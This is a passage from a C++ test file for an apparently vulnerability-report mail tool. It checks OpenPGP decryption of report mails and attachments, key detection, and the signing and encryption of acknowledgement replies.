    CHECK(std::any_of(m.problems.begin(), m.problems.end(),
                      [&](const std::string& p) { return contains(p, std::to_string(limits.maxObjects)); }));
}

TEST_CASE(
    "with OpenPGP off (no Gpg) an encrypted mail is recorded as encrypted, not decrypted, saying OpenPGP is off") {
    World w;
    const std::string raw = testing::toCrlf(w.mutt(MuttCrypto::SignEncrypt, "Report", "OFF-BODY-6a\n"));
    const auto m = readMail(raw, nullptr);
    INFO(summary(m));
    CHECK(m.encrypted);
    CHECK_FALSE(m.allDecrypted);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.encrypted);
    REQUIRE(layer.decryption.has_value());
    CHECK(*layer.decryption != DecryptStatus::Decrypted);
    CHECK(contains(layer.detail, "OpenPGP is off"));
    CHECK(m.reportText.empty());
    CHECK(m.decryptedParts.empty());
}

TEST_CASE(
    "a public key attached inside the encryption is found once as inside, one attached to a clear mail "
    "once as outside") {
    World w;
    const std::string encrypted =
        w.mutt(MuttCrypto::Encrypt, "My key", "My key is attached KEY-IN-1.\n", {}, /*attachKey=*/true);
    REQUIRE_FALSE(contains(encrypted, "BEGIN PGP PUBLIC KEY BLOCK"));
    const auto in = readMail(testing::toCrlf(encrypted), &w.gpg());
    INFO(summary(in));
    CHECK(in.allDecrypted);
    REQUIRE(in.keys.size() == 1);
    CHECK(in.keys.front().insideEncryption);
    auto listed = w.gpg().keysInData(in.keys.front().data);
    REQUIRE_MESSAGE(listed.ok(), errorText(listed));
    REQUIRE(listed->size() == 1);
    CHECK(listed->front().fingerprint == w.researcher.fingerprint);

    const std::string clear = w.mutt(MuttCrypto::None, "My key", "My key is attached KEY-OUT-2.\n", {}, true);
    REQUIRE(contains(clear, "application/pgp-keys"));
    REQUIRE_FALSE(contains(clear, "multipart/encrypted"));
    const auto out = readMail(testing::toCrlf(clear), &w.gpg());
    INFO(summary(out));
    CHECK_FALSE(out.encrypted);
    REQUIRE(out.keys.size() == 1);
    CHECK_FALSE(out.keys.front().insideEncryption);
    auto listedOut = w.gpg().keysInData(out.keys.front().data);
    REQUIRE_MESSAGE(listedOut.ok(), errorText(listedOut));
    REQUIRE(listedOut->size() == 1);
    CHECK(listedOut->front().fingerprint == w.researcher.fingerprint);
}

namespace {

mime::OutgoingMail answer() {
    mime::OutgoingMail mail;
    mail.fromAddress = kOurAddress;
    mail.fromName = "Security";
    mail.to = "rita@researcher.test";
    mail.subject = "Re: Heap overflow in the parser";
    mail.messageId = "<ack.1@example.org>";
    mail.inReplyTo = "<r1@researcher.test>";
    mail.references = {"<r1@researcher.test>"};
    mail.date = SystemClock().now();
    mail.extraHeaders = {{"Auto-Submitted", "auto-replied"}};
    mail.body = "Thank you for your report ACK-BODY-6d2e.\nWe will answer within 3 days.\n";
    return mail;
}

// The bytes of the first body part of a multipart message, exactly as a verifier hashes them:
// after the first delimiter line, up to and not including the CRLF before the next.
std::string firstPartBytes(const std::string& raw, const std::string& boundary) {
    const std::string delimiter = "\r\n--" + boundary;
    const auto first = raw.find(delimiter);
    REQUIRE(first != std::string::npos);
    const auto start = raw.find("\r\n", first + delimiter.size());
    REQUIRE(start != std::string::npos);
    const auto end = raw.find(delimiter, start + 2);
    REQUIRE(end != std::string::npos);
    return raw.substr(start + 2, end - start - 2);
}

std::string headerBlock(const std::string& raw) {
    const auto end = raw.find("\r\n\r\n");
    REQUIRE(end != std::string::npos);
    return raw.substr(0, end + 2);
}

}  // namespace

TEST_CASE(
    "protectMail signs an answer as RFC 3156 multipart/signed that the researcher's gpg verifies over "
    "the exact first part, and that reads back as validly signed by our key") {
    World w;
    REQUIRE(w.gpg().useSigningKey(w.ourFingerprint).ok());
    const std::string rendered = mime::renderMail(answer());
    auto signedMail = protectMail(rendered, Protection{true, {}}, w.gpg());
    REQUIRE_MESSAGE(signedMail.ok(), errorText(signedMail));
    const std::string& out = *signedMail;
    CHECK_FALSE(contains(out, "\n\n"));  // CRLF throughout

    const auto parsed = mime::parseMessage(out);
    REQUIRE(parsed.parts.size() == 3);
    CHECK(parsed.parts[0].contentType == "multipart/signed");
    const auto ct = mime::parseHeaderValue(parsed.parts[0].contentTypeHeader);
    CHECK(mime::param(ct, "protocol") == std::optional<std::string>("application/pgp-signature"));
    const auto micalg = mime::param(ct, "micalg");
    REQUIRE(micalg.has_value());
    CHECK(micalg->rfind("pgp-sha", 0) == 0);
    CHECK(parsed.parts[2].contentType == "application/pgp-signature");
    const auto boundary = mime::param(ct, "boundary");
    REQUIRE(boundary.has_value());

    const std::string signedBytes = firstPartBytes(out, *boundary);
    CHECK(contains(signedBytes, "Content-Type: text/plain"));
    CHECK(contains(signedBytes, "ACK-BODY-6d2e"));
    const auto verified = testing::gpgVerifyDetached(w.researcher, signedBytes, parsed.parts[2].decoded);
    REQUIRE_MESSAGE(verified.ok(), errorText(verified));
    INFO(verified->status);
    CHECK(verified->goodSignature);
    CHECK(verified->signerFingerprint == w.ourFingerprint);
    // The same signature over the part with a trailing CRLF (an off-by-two cut) does not verify.
    const auto shifted = testing::gpgVerifyDetached(w.researcher, signedBytes + "\r\n", parsed.parts[2].decoded);
    REQUIRE(shifted.ok());
    CHECK_FALSE(shifted->goodSignature);

    const auto back = readOpenPgp(out, parsed, &w.gpg());
    INFO(summary(back));
    CHECK_FALSE(back.encrypted);
    const Layer& layer = onlyLayer(back);
    CHECK(layer.kind == Layer::Kind::MimeSigned);
    CHECK(hasValidSignatureBy(layer.signatures, w.ourFingerprint));
    CHECK(contains(back.reportText, "ACK-BODY-6d2e"));
}

TEST_CASE(
    "protectMail encrypts an answer to the researcher: it decrypts to the original entity signed by our "
    "key, and only the addressing and threading headers stay outside") {
    World w;
    REQUIRE(w.gpg().useSigningKey(w.ourFingerprint).ok());
    const std::string rendered = mime::renderMail(answer());
    auto encrypted = protectMail(rendered, Protection{true, {w.researcher.fingerprint}}, w.gpg());
    REQUIRE_MESSAGE(encrypted.ok(), errorText(encrypted));
    const std::string& out = *encrypted;
    CHECK_FALSE(contains(out, "ACK-BODY-6d2e"));

    const auto parsedOut = mime::parseMessage(out);
    const auto parsedIn = mime::parseMessage(rendered);
    CHECK(parsedOut.parts.at(0).contentType == "multipart/encrypted");
    for (const char* name : {"From", "To", "Subject", "Message-ID", "In-Reply-To", "References", "Auto-Submitted"}) {
        CAPTURE(name);
        REQUIRE(parsedIn.header(name).has_value());
        CHECK(parsedOut.header(name) == parsedIn.header(name));
    }
    const std::string outerHeader = headerBlock(out);
    CHECK_FALSE(contains(outerHeader, "text/plain"));
    CHECK_FALSE(contains(outerHeader, "Content-Transfer-Encoding"));
    CHECK(contains(outerHeader, "protocol=\"application/pgp-encrypted\""));

    const auto opened = testing::gpgDecrypt(w.researcher, out);
    REQUIRE_MESSAGE(opened.ok(), errorText(opened));
    CHECK(opened->decrypted);
    CHECK(opened->goodSignature);
    CHECK(opened->signerFingerprint == w.ourFingerprint);
    const auto inner = mime::parseMessage(opened->plaintext);
    CHECK(inner.parts.at(0).contentType == "text/plain");
    CHECK(contains(inner.text, "Thank you for your report ACK-BODY-6d2e."));
    CHECK(contains(inner.text, "We will answer within 3 days."));

    // Encrypted to ourselves, the reader opens it again: decrypted, signed by us.
    auto toUs = protectMail(rendered, Protection{true, {w.ourFingerprint}}, w.gpg());
    REQUIRE_MESSAGE(toUs.ok(), errorText(toUs));
    const auto back = readMail(*toUs, &w.gpg());
    INFO(summary(back));
    CHECK(back.allDecrypted);
    CHECK(hasValidSignatureBy(onlyLayer(back).signatures, w.ourFingerprint));
    CHECK(contains(back.reportText, "ACK-BODY-6d2e"));
}

TEST_CASE("protectMail to a fingerprint that is not in the home fails and returns nothing in clear") {
    World w;
    REQUIRE(w.gpg().useSigningKey(w.ourFingerprint).ok());
    GpgIdentity stranger = w.identity("x", "Stranger", "stranger@elsewhere.test");
    REQUIRE_FALSE(w.gpg().findKey(stranger.fingerprint).has_value());
    const std::string rendered = mime::renderMail(answer());
    for (const bool sign : {true, false}) {
        CAPTURE(sign);
        auto r = protectMail(rendered, Protection{sign, {stranger.fingerprint}}, w.gpg());
        REQUIRE_FALSE(r.ok());
        CHECK(contains(r.error().message, stranger.fingerprint));
        CHECK_FALSE(contains(r.error().message, "ACK-BODY-6d2e"));
    }
    // One known and one unknown recipient: still nothing.
    auto mixed = protectMail(rendered, Protection{true, {w.researcher.fingerprint, stranger.fingerprint}}, w.gpg());
    CHECK_FALSE(mixed.ok());
}

TEST_CASE(
    "a binary encrypted attachment (poc.txt.gpg) in a clear mail is decrypted: its text is the report, "
    "the clear body unauthenticated, the file a decrypted part named without .gpg") {
    World w;
    const fs::path file = w.file("poc.txt.gpg", binaryEncrypted(w, "BIN-SECRET-2 crash input\n", w.ourFingerprint));
    const std::string raw = w.mutt(MuttCrypto::None, "Attached", "CLEAR-BODY-4 see the attachment\n", {file});
    REQUIRE(contains(raw, "filename=\"poc.txt.gpg\""));
    const auto m = readMail(testing::toCrlf(raw), &w.gpg());
    INFO(summary(m));
    CHECK(m.encrypted);
    CHECK(m.allDecrypted);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::EncryptedAttachment);
    CHECK(layer.part == "2");
    CHECK(hasValidSignatureBy(layer.signatures, w.researcher.fingerprint));
    CHECK(contains(m.reportText, "BIN-SECRET-2 crash input"));
    CHECK_FALSE(contains(m.reportText, "CLEAR-BODY-4"));
    CHECK(contains(m.unauthenticatedText, "CLEAR-BODY-4"));
    REQUIRE(m.decryptedParts.size() == 1);
    CHECK(m.decryptedParts.front().filename == "poc.txt");
    CHECK(m.decryptedParts.front().decoded == "BIN-SECRET-2 crash input\n");
}

// Attachments whose declared type lies (Debian's mime.types calls every .asc a key and every
// .pgp a PGP/MIME control part), and write-ups the MIME layer already reads as text.

TEST_CASE(
    "an armored encrypted file attached as poc.txt.asc (application/pgp-keys by /etc/mime.types) is "
    "decrypted, not taken for a public key") {
    World w;
    const fs::path file = w.file("poc.txt.asc", w.armor("ASC-SECRET-5 crash input\n", InlineKind::EncryptSign));
    const std::string raw = w.mutt(MuttCrypto::None, "Attached", "see the attachment\n", {file});
    REQUIRE(contains(raw, "Content-Type: application/pgp-keys"));  // what mutt makes of .asc on Debian
    const auto m = readMail(testing::toCrlf(raw), &w.gpg());
    INFO(summary(m));
    CHECK(m.keys.empty());
    CHECK(m.encrypted);
    CHECK(m.allDecrypted);
    CHECK(contains(m.reportText, "ASC-SECRET-5 crash input"));
}

TEST_CASE(
    "a binary encrypted file attached as poc.pgp (application/pgp-encrypted by /etc/mime.types) is "
    "decrypted") {
    World w;
    const fs::path file = w.file("poc.pgp", binaryEncrypted(w, "PGP-SECRET-6 crash input\n", w.ourFingerprint));
    const std::string raw = w.mutt(MuttCrypto::None, "Attached", "see the attachment\n", {file});
    REQUIRE(contains(raw, "Content-Type: application/pgp-encrypted"));
    const auto m = readMail(testing::toCrlf(raw), &w.gpg());
    INFO(summary(m));
    CHECK(m.encrypted);
    CHECK(m.allDecrypted);
    CHECK(contains(m.reportText, "PGP-SECRET-6 crash input"));
}

TEST_CASE(
    "a text/plain attachment (report.txt) that is one armored PGP message is decrypted once, not once as "
    "an attachment and again as inline text") {
    World w;
    const fs::path file = w.file("report.txt", w.armor("ONCE-SECRET-7\n", InlineKind::EncryptSign));
    const std::string raw = w.mutt(MuttCrypto::None, "Attached", "see the attachment\n", {file});
    REQUIRE(contains(raw, "filename=\"report.txt\""));
    const auto m = readMail(testing::toCrlf(raw), &w.gpg());
    INFO(summary(m));
    CHECK(m.allDecrypted);
    CHECK(m.layers.size() == 1);
    CHECK(occurrences(m.reportText, "ONCE-SECRET-7") == 1);
}
